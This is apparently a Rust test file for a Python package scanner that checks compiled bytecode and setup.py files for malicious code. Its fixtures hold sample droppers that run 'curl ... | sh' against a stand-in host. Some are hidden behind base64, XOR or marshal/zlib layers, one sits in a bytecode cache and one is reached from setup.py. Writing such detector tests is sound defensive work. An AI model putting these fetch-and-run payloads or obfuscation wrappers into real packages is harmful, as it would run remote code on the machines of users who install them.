//! Compiled Python, made by the interpreters of this machine: `python3`, and what pyenv has.
#![expect(clippy::unwrap_used, reason = "tests fail by panicking")]

use std::io::Cursor;
use std::path::{Path, PathBuf};
use std::process::Command;

use fondaco_archive::Limits;
use fondaco_inspect::{Context, inspect, on_large_stack};
use fondaco_testkit::Sdist;
use fondaco_verdict::{Behaviour, Report, Trigger, Verdict};

/// base64 of `import os;os.system('curl http://x.example.invalid/a | sh')`.
const DROPPER: &str = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCBodHRwOi8veC5leGFtcGxlLmludmFsaWQvYSB8IHNoJyk='))\n";
const HARMLESS: &str = "\"\"\"Sums.\"\"\"\nimport os.path\n\n\nclass Adder(object):\n    def add(self, values, start=0):\n        for value in values:\n            start += value\n        return [str(x) for x in (start, os.path.sep)]\n\n\nif __name__ == '__main__':\n    print(Adder().add([1, 2]))\n";
/// The same command behind a function that takes a key off it.
const DECODER: &str = "import os\n\n\ndef decode(text):\n    out = ''\n    for c in text:\n        out += chr(ord(c) ^ 1)\n    return out\n\n\ndef run():\n    os.system(decode('btsm!iuuq;..y/dy`lqmd/how`mhe.`!}!ri'))\n\n\nrun()\n";

const COMPILE: &str = "
import os, py_compile, shutil, sys, tempfile
folder = tempfile.mkdtemp()
path = os.path.join(folder, 'm.py')
with open(path, 'w') as f:
    f.write(sys.argv[1])
py_compile.compile(path, path + 'c', doraise=True)
with open(path + 'c', 'rb') as f:
    getattr(sys.stdout, 'buffer', sys.stdout).write(f.read())
shutil.rmtree(folder)
";

/// The interpreters of this machine; `python3` must be there.
fn interpreters() -> Vec<PathBuf> {
    let mut found = vec![PathBuf::from("python3")];
    let home = std::env::var_os("HOME").map(PathBuf::from).unwrap_or_default();
    for folder in std::fs::read_dir(home.join(".pyenv/versions")).into_iter().flatten().flatten() {
        let python = folder.path().join("bin/python");
        found.extend(python.exists().then_some(python));
    }
    found.sort();
    found
}

fn python(interpreter: &Path, code: &str, argument: &str) -> Vec<u8> {
    let output = Command::new(interpreter).args(["-c", code, argument]).output().unwrap();
    assert!(output.status.success(), "{interpreter:?}: {}", String::from_utf8_lossy(&output.stderr));
    output.stdout
}

fn compile(interpreter: &Path, source: &str) -> Vec<u8> {
    python(interpreter, COMPILE, source)
}

fn compiled(source: &str) -> Vec<u8> {
    compile(Path::new("python3"), source)
}

fn sdist(files: &[(&str, &[u8])]) -> Report {
    let dist =
        files.iter().fold(Sdist::new("x", "1.0"), |sdist, (name, bytes)| sdist.file(name, bytes)).build();
    let context = Context { file_name: dist.file_name, ..Context::default() };
    let bytes = dist.bytes.as_ref().clone();
    on_large_stack(move || inspect(Cursor::new(bytes), &context, &Limits::for_testing())).unwrap()
}

#[track_caller]
fn is_clean(report: &Report) {
    assert_eq!((report.verdict, report.complete), (Verdict::Clean, true), "{report:#?}");
}

#[track_caller]
fn is_malicious(report: &Report, trigger: Trigger) {
    assert_eq!((report.verdict, report.complete), (Verdict::Malicious, true), "{report:#?}");
    assert!(report.stages.iter().any(|stage| stage.trigger == Some(trigger)), "{:?}", report.stages);
}

#[test]
fn a_module_without_its_source_is_read_in_every_version() {
    for interpreter in interpreters() {
        println!("{}", interpreter.display());
        let report = sdist(&[("pkg/__init__.pyc", &compile(&interpreter, DROPPER))]);
        is_malicious(&report, Trigger::Import);
        assert!(report.behaviours.contains(&Behaviour::Obfuscation), "{:?}", report.behaviours);
        assert_eq!(report.layers[0].encoders, ["base64"]);
        is_malicious(&sdist(&[("pkg/__init__.pyc", &compile(&interpreter, DECODER))]), Trigger::Import);
        is_clean(&sdist(&[("pkg/__init__.pyc", &compile(&interpreter, HARMLESS))]));
    }
}

#[test]
fn findings_stand_on_the_lines_of_the_source() {
    for interpreter in interpreters() {
        let report = sdist(&[("pkg/core.pyc", &compile(&interpreter, DECODER))]);
        assert!(
            report.findings.iter().any(|f| f.line == 12 && f.excerpt.contains("os.system")),
            "{report:#?}"
        );
    }
}

#[test]
fn bytecode_beside_its_source() {
    let cached = "pkg/__pycache__/core.cpython-311.pyc";
    is_clean(&sdist(&[("pkg/core.py", HARMLESS.as_bytes()), (cached, &compiled(HARMLESS))]));
    // The interpreter takes the bytecode of a cache for the source, whatever that says.
    let report = sdist(&[("pkg/core.py", HARMLESS.as_bytes()), (cached, &compiled(DROPPER))]);
    is_malicious(&report, Trigger::Import);
    assert_eq!(report.findings[0].member, format!("x-1.0/{cached}"));
}

#[test]
fn bytecode_is_reached_as_its_module_would_be() {
    let setup = b"from setuptools import setup\nfrom pkg.core import run\nrun()\nsetup(name='x')\n";
    let helper = compiled("import os\ndef run():\n    os.system('curl http://x.example.invalid/a | sh')\n");
    let report = sdist(&[("setup.py", setup), ("pkg/core.pyc", &helper)]);
    let finding = report.findings.iter().find(|f| f.member.ends_with("core.pyc")).unwrap();
    assert_eq!(finding.trigger, Some(Trigger::Install), "{report:#?}");
    assert_eq!(finding.reach, ["x-1.0/setup.py:3"]);
}

#[test]
fn marshalled_code_in_source_is_a_layer() {
    let dump = "import base64, marshal, sys, zlib\n\
        code = compile(sys.argv[1], 'x', 'exec')\n\
        out = getattr(sys.stdout, 'buffer', sys.stdout)\n\
        out.write(base64.b64encode(zlib.compress(marshal.dumps(code))))\n";
    for interpreter in interpreters() {
        let payload =
            python(&interpreter, dump, "import os\nos.system('curl http://x.example.invalid/a | sh')\n");
        let payload = String::from_utf8(payload).unwrap();
        let setup = format!(
            "import base64, marshal, zlib\nexec(marshal.loads(zlib.decompress(base64.b64decode('{payload}'))))\n"
        );
        let report = sdist(&[("setup.py", setup.as_bytes())]);
        is_malicious(&report, Trigger::Install);
        assert_eq!(report.layers[0].encoders, ["base64", "zlib", "marshal"]);
        assert_eq!(report.layers.len(), 1, "{:?}", report.layers);
        let inner = report.findings.iter().find(|f| f.layer == 1 && f.excerpt.contains("os.system"));
        assert_eq!(inner.unwrap().reach, ["x-1.0/setup.py:2"]);
    }
}

#[test]
fn marshalled_data_is_no_code() {
    let setup = b"import marshal\nTABLE = marshal.loads(b'[\\x03\\x00\\x00\\x00NTFi\\x01\\x00\\x00\\x00')\n";
    is_clean(&sdist(&[("setup.py", setup), ("x/core.py", fondaco_testkit::honest_module().as_bytes())]));
}

#[test]
fn what_is_not_read_is_said() {
    let whole = compiled(HARMLESS);
    let mut future = whole.clone();
    future[0] ^= 0x55;
    let report = sdist(&[("pkg/core.pyc", &future)]);
    assert_eq!(report.verdict, Verdict::Incomplete);
    assert!(report.unscanned[0].why.contains("magic"), "{:?}", report.unscanned);
    for length in (4..whole.len()).step_by(7) {
        let report = sdist(&[("pkg/core.pyc", &whole[..length])]);
        assert_eq!(report.verdict, Verdict::Incomplete, "cut to {length} bytes: {report:#?}");
    }
    let odd = python(
        Path::new("python3"),
        "import dis, importlib.util, marshal, sys\n\
         code = compile('x = 1', 'x', 'exec')\n\
         number = max(set(range(256)) - set(dis.opmap.values()))\n\
         odd = bytes([number]) + code.co_code[1:]\n\
         data = marshal.dumps(code).replace(code.co_code, odd)\n\
         sys.stdout.buffer.write(importlib.util.MAGIC_NUMBER + bytes(12) + data)\n",
        "",
    );
    let report = sdist(&[("pkg/core.pyc", &odd)]);
    assert_eq!(report.verdict, Verdict::Incomplete, "{report:#?}");
    assert!(report.unscanned[0].why.contains("not known"), "{:?}", report.unscanned);
}

/// Numbers that look random and are the same each time (Knuth's linear congruential generator).
struct Numbers(u64);

impl Numbers {
    fn below(&mut self, end: usize) -> usize {
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (self.0 >> 33) as usize % end
    }
}

#[test]
fn damaged_bytecode_never_panics() {
    let mut numbers = Numbers(1);
    for interpreter in interpreters() {
        for source in [HARMLESS, DECODER] {
            let whole = compile(&interpreter, source);
            for _ in 0..150 {
                let mut damaged = whole.clone();
                for _ in 0..=numbers.below(6) {
                    let at = 4 + numbers.below(whole.len() - 4);
                    damaged[at] = numbers.below(256) as u8;
                }
                // A panic would be an error of the thread.
                sdist(&[("pkg/core.pyc", &damaged)]);
            }
        }
    }
}
